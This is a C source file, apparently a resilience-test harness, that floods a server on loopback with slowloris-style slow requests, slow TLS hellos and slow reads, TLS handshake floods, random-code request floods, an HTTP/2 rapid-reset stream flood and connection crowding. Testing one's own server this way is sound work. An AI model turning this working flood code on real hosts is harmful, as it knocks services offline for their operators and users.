/* Attacks on a server on 127.0.0.1, from 127.0.0.2 to 127.0.0.9: one thread, one epoll, bounded in connections and time.
 *
 * usage: attacker ATTACK PLAIN-PORT TLS-PORT PATH SECONDS      gcc -O2 -o attacker attacker.c -lssl -lcrypto
 *
 * slow       2 000 connections, each opened again once the server closes it: 800 send a head byte by byte, one a second; 400 a
 *            ClientHello so; 400 a head so after a TLS handshake; 400 ask 100 times for PATH at once and read one byte a second.
 * handshake  TLS handshakes as fast as they go: half end in turn once the server has answered their ClientHello, or are
 *            silent then until the server ends them (4 000 in flight at a time, and 6 000 silent ones); half are completed and
 *            then closed (512 in flight).
 * hello      the first half of it alone: the attacker computes nothing, so all CPU time is the server's.
 * unknown    requests for random codes as fast as they are answered: 1 024 kept connections with one request each, and 64 at
 *            a time that make one request and close.
 * reset      HTTP/2 by prior knowledge: streams opened and reset, 500 in one write of each of 64 connections, opened again after
 *            GOAWAY or the end.
 * crowd      6 000 silent connections from one address, each opened again once the server closes it, 2 000 a second at most.
 *
 * Ends at SIGTERM or after SECONDS, then prints one line of JSON with counts. Connections are closed by a reset, so that
 * no port stays in TIME_WAIT. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <openssl/ssl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "client.h"

enum kind { HEAD, HELLO, TLS_HEAD, READER, LEAVES, SILENT, COMPLETES, KEPT, ONCE, RESETS, CROWD, KINDS };
enum { EVENTS = 512, ADDRESSES = 8, MOST = 16384, TICK_NS = 100000000 };

struct connection {
    int fd;            /* -1: a free slot */
    enum kind kind;
    int connected;
    int handshake_done;       /* the TLS handshake is done */
    size_t sent;       /* bytes sent so far, for kinds that send byte by byte */
    SSL *ssl;
};

static struct connection connections[MOST];
static int free_slots[MOST], free_count, open_of[KINDS], epoll, ports[2], next_address;
static SSL_CTX *tls;
static unsigned char hello[2048], resets[65536];
static size_t hello_length, resets_length;
static char head[512], burst[65536], scrap[65536];
static volatile sig_atomic_t stopped;
static struct { uint64_t opened, refused, closed_by_server, answered, hellos_answered, handshakes, requests, streams, most_open; } counts;

static void stop(int signal) {
    (void)signal;
    stopped = 1;
}

static void close_connection(struct connection *one) {
    if (one->ssl) SSL_free(one->ssl);
    close(one->fd);
    open_of[one->kind]--;
    one->fd = -1;
    free_slots[free_count++] = (int)(one - connections);
}

/* Starts to connect. Returns 0 if no slot is free or the kernel refuses. */
static int open_connection(enum kind kind) {
    if (!free_count) return 0;
    int over_tls = kind == HELLO || kind == TLS_HEAD || kind == LEAVES || kind == SILENT || kind == COMPLETES, on = 1;
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (fd < 0) return 0;
    struct linger reset = {.l_onoff = 1};
    setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof reset);
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
    setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &on, sizeof on);
    if (kind == READER) {
        int small = 2304;
        setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
    }
    int address = kind == CROWD ? 0 : next_address++ % ADDRESSES;
    struct sockaddr_in from = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK + 1 + (unsigned)address)};
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)ports[over_tls]), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    if (bind(fd, (struct sockaddr *)&from, sizeof from) < 0 ||
        (connect(fd, (struct sockaddr *)&to, sizeof to) < 0 && errno != EINPROGRESS)) {
        counts.refused++;
        close(fd);
        return 0;
    }
    struct connection *one = &connections[free_slots[--free_count]];
    *one = (struct connection){.fd = fd, .kind = kind};
    struct epoll_event event = {.events = EPOLLIN | EPOLLOUT | EPOLLRDHUP | EPOLLET, .data.ptr = one};
    if (epoll_ctl(epoll, EPOLL_CTL_ADD, fd, &event) < 0) fail("epoll_ctl");
    counts.opened++;
    open_of[kind]++;
    uint64_t open = (uint64_t)(MOST - free_count);
    if (open > counts.most_open) counts.most_open = open;
    return 1;
}

static void send_random_code_request(struct connection *one) {
    static uint64_t random = 88172645463325252u;
    static const char letters[] = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
    random ^= random << 13, random ^= random >> 7, random ^= random << 17;
    char request[256], code[9] = "";
    uint64_t rest = random;
    for (int i = 0; i < 8; i++, rest /= 62) code[i] = letters[rest % 62];
    int length = snprintf(request, sizeof request, "GET /%s HTTP/1.1\r\nHost: go.example.com\r\nUser-Agent: x\r\nAccept: */*\r\n\r\n", code);
    if (write(one->fd, request, (size_t)length) == length) counts.requests++;
}

/* Sends what its kind sends first, once a connection is established. */
static void on_connected(struct connection *one) {
    one->connected = 1;
    switch (one->kind) {
    case LEAVES: case SILENT:
        if (write(one->fd, hello, hello_length) < 0) close_connection(one);
        break;
    case COMPLETES: case TLS_HEAD:
        one->ssl = SSL_new(tls);
        SSL_set_fd(one->ssl, one->fd);
        SSL_set_connect_state(one->ssl);
        break;
    case READER:
        if (write(one->fd, burst, strlen(burst)) > 0) counts.requests += 100;
        break;
    case KEPT: case ONCE:
        send_random_code_request(one);
        break;
    default:
        break;
    }
}

/* Continues a client's handshake until it would block; closes the connection if it fails. */
static void continue_handshake(struct connection *one) {
    int done = SSL_do_handshake(one->ssl);
    if (done == 1) {
        one->handshake_done = 1;
    } else {
        int why = SSL_get_error(one->ssl, done);
        if (why != SSL_ERROR_WANT_READ && why != SSL_ERROR_WANT_WRITE) counts.closed_by_server++, close_connection(one);
    }
}

static void on_event(struct connection *one, uint32_t events) {
    if (one->fd < 0) return;
    if (!one->connected) {
        if (events & (EPOLLERR | EPOLLHUP)) {
            counts.refused++;
            close_connection(one);
            return;
        }
        if (!(events & EPOLLOUT)) return;
        on_connected(one);
        if (one->fd < 0) return;
    }
    if (one->ssl && !one->handshake_done) {
        continue_handshake(one);
        return;
    }
    if (one->kind == RESETS && events & EPOLLOUT) {
        /* Stream numbers only grow: each connection gets one write, and what the server does with it is its answer. */
        if (!one->sent && write(one->fd, resets, resets_length) == (ssize_t)resets_length) {
            one->sent = resets_length;
            counts.streams += 500;
        }
    }
    if (one->kind == READER && !(events & (EPOLLERR | EPOLLHUP | EPOLLRDHUP))) return;
    if (events & (EPOLLIN | EPOLLERR | EPOLLHUP | EPOLLRDHUP)) {
        ssize_t got;
        while ((got = read(one->fd, scrap, sizeof scrap)) == (ssize_t)sizeof scrap) {}
        if (got == 0 || (got < 0 && errno != EAGAIN)) {
            counts.closed_by_server++;
            close_connection(one);
        } else if (got > 0) {
            if (one->kind == LEAVES || (one->kind == SILENT && !one->sent)) counts.hellos_answered++, one->sent = 1;
            /* A ticket: the server is done as well. */
            if (one->kind == COMPLETES) counts.handshakes++;
            if (one->kind == LEAVES || one->kind == COMPLETES) close_connection(one);
            /* GOAWAY: this connection has done what it could. */
            for (size_t at = 0; one->kind == RESETS && one->fd >= 0 && at + 9 <= (size_t)got;) {
                const unsigned char *frame = (const unsigned char *)scrap + at;
                if (frame[3] == 7) counts.closed_by_server++, close_connection(one);
                at += 9 + ((size_t)frame[0] << 16 | (size_t)frame[1] << 8 | frame[2]);
            }
            if (one->kind == KEPT || one->kind == ONCE) {
                counts.answered++;
                if (one->kind == KEPT) send_random_code_request(one);
                else close_connection(one);
            }
        }
    }
}

/* Called once a second for a connection that sends or reads one byte a second. */
static void send_or_read_one_byte(struct connection *one) {
    if (one->fd < 0 || !one->connected || one->kind > READER) return;
    int sent = 1;
    if (one->kind == HEAD) sent = (int)write(one->fd, head + one->sent % (sizeof head - 1), 1);
    else if (one->kind == HELLO && one->sent < hello_length) sent = (int)write(one->fd, hello + one->sent, 1);
    else if (one->kind == TLS_HEAD && one->handshake_done) sent = SSL_write(one->ssl, head + one->sent % (sizeof head - 1), 1);
    else if (one->kind == READER) sent = read(one->fd, scrap, 1) != 0;
    one->sent++;
    if (sent <= 0) counts.closed_by_server++, close_connection(one);
}

static void build_payloads(const char *path) {
    /* A request head whose last field has no end. */
    memset(head, 'x', sizeof head);
    int length = snprintf(head, sizeof head, "GET %s HTTP/1.1\r\nHost: go.example.com\r\nUser-Agent: ", path);
    head[length] = 'x';
    for (int i = 0; i < 100; i++) {
        char request[256];
        snprintf(request, sizeof request, "GET %s HTTP/1.1\r\nHost: go.example.com\r\n\r\n", path);
        strcat(burst, request);
    }
    tls = SSL_CTX_new(TLS_client_method());
    SSL_CTX_set_session_cache_mode(tls, SSL_SESS_CACHE_OFF);
    SSL *one = SSL_new(tls);
    BIO *in = BIO_new(BIO_s_mem()), *out = BIO_new(BIO_s_mem());
    SSL_set_bio(one, in, out);
    SSL_set_tlsext_host_name(one, "go.example.com");
    SSL_set_connect_state(one);
    SSL_do_handshake(one);
    hello_length = (size_t)BIO_read(out, hello, sizeof hello);
    SSL_free(one);
    /* Preface, empty SETTINGS, then HEADERS (:method GET, :scheme http, :path /x, :authority x) and RST_STREAM of each stream. */
    static const unsigned char block[] = {0x82, 0x86, 0x04, 0x02, '/', 'x', 0x01, 0x01, 'x'};
    unsigned char *at = resets;
    memcpy(at, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0", 33), at += 33;
    for (uint32_t stream = 1; stream < 1000; stream += 2) {
        unsigned char frame[9] = {0, 0, sizeof block, 1, 5, 0, 0, (unsigned char)(stream >> 8), (unsigned char)stream};
        memcpy(at, frame, 9), memcpy(at + 9, block, sizeof block), at += 9 + sizeof block;
        frame[2] = 4, frame[3] = 3, frame[4] = 0;
        memcpy(at, frame, 9), memcpy(at + 9, "\0\0\0\10", 4), at += 13;
    }
    resets_length = (size_t)(at - resets);
}

static void open_up_to(enum kind kind, int most, int at_once) {
    while (at_once-- && open_of[kind] < most && open_connection(kind)) {}
}

int main(int argc, char **argv) {
    if (argc != 6) {
        fprintf(stderr, "usage: attacker ATTACK PLAIN-PORT TLS-PORT PATH SECONDS\n");
        return 64;
    }
    const char *attack = argv[1];
    ports[0] = atoi(argv[2]), ports[1] = atoi(argv[3]);
    signal(SIGTERM, stop), signal(SIGINT, stop), signal(SIGPIPE, SIG_IGN);
    build_payloads(argv[4]);
    for (int i = 0; i < MOST; i++) connections[i].fd = -1, free_slots[free_count++] = MOST - 1 - i;
    if ((epoll = epoll_create1(0)) < 0) fail("epoll_create1");

    uint64_t began = now(), deadline = began + (uint64_t)(atof(argv[5]) * 1e9), tick = began;
    unsigned ticks = 0;
    while (!stopped && now() < deadline) {
        if (!strcmp(attack, "slow")) {
            open_up_to(HEAD, 800, 8), open_up_to(HELLO, 400, 4), open_up_to(TLS_HEAD, 400, 4), open_up_to(READER, 400, 4);
        } else if (!strcmp(attack, "handshake")) {
            open_up_to(SILENT, 6000, 4), open_up_to(LEAVES, 4000, 4), open_up_to(COMPLETES, 512, 8);
        } else if (!strcmp(attack, "hello")) {
            open_up_to(SILENT, 6000, 8), open_up_to(LEAVES, 4000, 8);
        } else if (!strcmp(attack, "unknown")) {
            open_up_to(KEPT, 1024, 16), open_up_to(ONCE, 64, 8);
        } else if (!strcmp(attack, "reset")) {
            open_up_to(RESETS, 64, 8);
        } else if (!strcmp(attack, "crowd")) {
            open_up_to(CROWD, 6000, 0);
        } else {
            fprintf(stderr, "no such attack: %s\n", attack);
            return 64;
        }
        struct epoll_event events[EVENTS];
        int ready = epoll_wait(epoll, events, EVENTS, 1);
        if (ready < 0 && errno != EINTR) fail("epoll_wait");
        for (int i = 0; i < ready; i++) on_event(events[i].data.ptr, events[i].events);
        if (now() >= tick) {
            tick += TICK_NS, ticks++;
            for (unsigned i = ticks % 10; i < MOST; i += 10) send_or_read_one_byte(&connections[i]);
            if (!strcmp(attack, "crowd")) open_up_to(CROWD, 6000, 200);
        }
    }
    double seconds = (double)(now() - began) / 1e9;
    printf("{\"seconds\":%.3f,\"opened\":%llu,\"refused\":%llu,\"closed_by_server\":%llu,\"answered\":%llu,\"hellos_answered\":%llu,"
           "\"handshakes\":%llu,\"requests\":%llu,\"streams\":%llu,\"most_open\":%llu,\"open\":%d}\n", seconds,
           (unsigned long long)counts.opened, (unsigned long long)counts.refused, (unsigned long long)counts.closed_by_server,
           (unsigned long long)counts.answered, (unsigned long long)counts.hellos_answered, (unsigned long long)counts.handshakes,
           (unsigned long long)counts.requests, (unsigned long long)counts.streams, (unsigned long long)counts.most_open, MOST - free_count);
    return 0;
}
